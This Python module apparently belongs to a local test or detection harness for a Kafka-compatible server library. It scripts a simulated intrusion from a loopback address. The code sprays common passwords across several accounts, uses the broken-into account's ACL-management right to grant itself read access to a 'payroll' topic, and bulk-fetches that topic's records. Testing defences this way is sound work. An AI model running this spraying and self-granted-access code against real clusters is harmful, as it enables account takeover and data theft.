"""An attack in four stages from an address of its own: password spraying, a login, a grant, and a bulk read.

`run.py` calls it, and creates the accounts and the topic. The attack speaks the protocol itself, without a Kafka
client, as an attacker's tool does.
"""

from __future__ import annotations

import time
from typing import Any, Final, NamedTuple

from klamm.acl import AclOperation, AclPermission, PatternType, ResourceType
from klamm.testing import RawClient
from klamm.wire.errors import ErrorCode
from klamm.wire.messages import create_acls, fetch, sasl_authenticate, sasl_handshake
from klamm.wire.records import iterate_batches

ADDRESS: Final = "127.0.0.66"
"""The attacker's address: on Linux, all of 127.0.0.0/8 is this machine."""
ACCOUNT: Final = "ops"
"""The attacked account. It may manage ACLs but read nothing, and its password is easy to guess."""
PASSWORD: Final = "Winter2026"
TOPIC: Final = "payroll"
STOLEN_BYTES: Final = 1_280 * 1024
_ACCOUNTS: Final = ("admin", "alice", "bob", "bulk", "root", "mallory", ACCOUNT)
_PASSWORDS: Final = ("123456", "Password1", PASSWORD)
_PARTITIONS: Final = range(4)
_DEADLINE_S: Final = 60


class Attack(NamedTuple):
    """The attacker's counts."""

    failed_logins: int
    stolen_bytes: int


def run(address: tuple[str, int]) -> Attack:
    """Run all four stages. Raises RuntimeError if one of them fails."""
    failed = 0
    for password in _PASSWORDS:
        for account in _ACCOUNTS:
            client = RawClient(address, client_id="sprayer", source_host=ADDRESS)
            if _log_in(client, account, password):
                with client:
                    _grant(client)
                    return Attack(failed, _read(client))
            failed += 1
            client.close()
    raise RuntimeError("no password was right")


def _log_in(client: RawClient, account: str, password: str) -> bool:
    client.call(sasl_handshake.SaslHandshakeRequest("PLAIN"), 1)
    token = f"\0{account}\0{password}".encode()
    error: int = client.call(sasl_authenticate.SaslAuthenticateRequest(token), 2).error_code
    return error == ErrorCode.NONE


def _grant(client: RawClient) -> None:
    """Use the account's right to manage ACLs to give it the right to read."""
    binding = create_acls.AclCreation(
        ResourceType.TOPIC,
        TOPIC,
        PatternType.LITERAL,
        principal=f"User:{ACCOUNT}",
        host="*",
        operation=AclOperation.READ,
        permission_type=AclPermission.ALLOW,
    )
    (result,) = client.call(create_acls.CreateAclsRequest([binding]), 3).results
    _require(result.error_code)


def _read(client: RawClient) -> int:
    """Read the topic until enough is stolen, and return the number of bytes."""
    positions, stolen, until = dict.fromkeys(_PARTITIONS, 0), 0, time.monotonic() + _DEADLINE_S
    while stolen < STOLEN_BYTES:
        if time.monotonic() > until:
            raise RuntimeError(f"{TOPIC} has {stolen:,} bytes only")
        for data in client.call(_fetch(positions), 11).responses[0].partitions:
            _require(data.error_code)
            records = bytes(data.records or b"")
            stolen += len(records)
            positions[data.partition_index] = _next_offset(records, positions[data.partition_index])
    return stolen


def _fetch(positions: dict[int, int]) -> fetch.FetchRequest:
    partitions = [
        fetch.FetchPartition(partition, fetch_offset=offset, partition_max_bytes=256 * 1024)
        for partition, offset in positions.items()
    ]
    request = fetch.FetchRequest(max_wait_ms=100, min_bytes=1, max_bytes=1 << 20, session_epoch=-1)
    request.topics = [fetch.FetchTopic(TOPIC, partitions=partitions)]
    return request


def _next_offset(records: bytes, offset: int) -> int:
    headers: list[Any] = [header for header, _ in iterate_batches(records)]
    return headers[-1].last_offset + 1 if headers else offset


def _require(error_code: int) -> None:
    if error_code != ErrorCode.NONE:
        raise RuntimeError(f"the server refused it: {ErrorCode(error_code).name}")
